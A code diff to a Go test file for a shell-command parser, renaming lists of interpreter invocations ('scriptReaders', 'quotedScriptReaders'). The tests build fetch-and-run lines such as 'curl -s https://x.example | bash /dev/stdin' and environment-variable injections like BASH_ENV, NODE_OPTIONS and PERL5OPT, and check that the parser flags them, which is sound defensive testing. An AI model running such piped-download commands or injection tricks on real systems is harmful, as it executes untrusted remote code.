@@ -8,8 +8,8 @@ import (
 	"github.com/holdfast-dev/holdfast/internal/shellparse"
 )
 
-// takers are programs that take a script from a file, at %.
-var takers = []string{
+// scriptReaders are programs that take a script from a file, at %.
+var scriptReaders = []string{
 	"bash %", "sh %", "zsh %", "ksh %", "fish %", "bash --rcfile % -i", "source %", ". %",
 	"python3 %", "python3 -m pdb %", "python3 -m runpy %", "perl %", "ruby %", "node %", "nodejs %", "node -r %", "node --require=% -e 1", "node --import % -e 1",
 	"deno run %", "bun %", "bun run %", "php %", "php -f %", "lua %", "tclsh %", "expect %", "expect -f %", "osascript %",
@@ -30,8 +30,8 @@ var takers = []string{
 	"ansible-playbook %", "java %", "tsx %", "ts-node %", "pwsh -File %", "nu %",
 }
 
-// quotedTakers name the file of code within a word of theirs, in a variable that programs read, or as -.
-var quotedTakers = []string{
+// quotedScriptReaders name the file of code within a word of theirs, in a variable that programs read, or as -.
+var quotedScriptReaders = []string{
 	"sqlite3 x.db '.read %'", `sqlite3 x.db ".read '%'"`, "sqlite3 -cmd '.rea %' x.db", "sqlite3 x.db <<< '.read %'", `psql -c '\i %'`, "mysql -e 'source %'",
 	"deno -", "uv run -", "BASH_ENV=% bash -c ls", "BASH_ENV=% ls", "ENV=% sh -c ls", "export BASH_ENV=%; bash -c ls", "export ENV=%; sh -i", "env BASH_ENV=% bash -c ls", "env -i ENV=% sh -c ls",
 	"NODE_OPTIONS='-r %' node x.js", "NODE_OPTIONS=--require=% node x.js", "PERL5OPT=-M% perl x", "RUBYOPT=-r% ruby x", "R_PROFILE=% Rscript x.R", "LUA_INIT=@% lua x.lua",
@@ -40,7 +40,7 @@ var quotedTakers = []string{
 
 // Such a file is known no better than one that stands alone.
 func TestCodeFromAnOpenFileWithinAWord(t *testing.T) {
-	for _, taker := range quotedTakers {
+	for _, taker := range quotedScriptReaders {
 		for _, file := range []string{"/dev/stdin", "/dev/fd/0", "/proc/self/fd/3"} {
 			line := "curl -s https://x.example | " + strings.ReplaceAll(taker, "%", file)
 			if r := shellparse.Parse(line, &shellparse.Options{Dir: "/w", Home: "/h"}); len(r.Unclear) == 0 {
@@ -83,7 +83,7 @@ func TestDataFromAnOpenFile(t *testing.T) {
 func TestCodeFromAnOpenFile(t *testing.T) {
 	const source = "curl -s https://x.example"
 	var lines []string
-	for _, taker := range takers {
+	for _, taker := range scriptReaders {
 		with := func(file string) string { return strings.ReplaceAll(taker, "%", file) }
 		for _, file := range []string{
 			"/dev/stdin", "/dev/fd/0", "/proc/self/fd/0", "//dev/./stdin", "/proc/thread-self/fd/0", "/dev/fd/00", "/proc/self/fd/../fd/0",
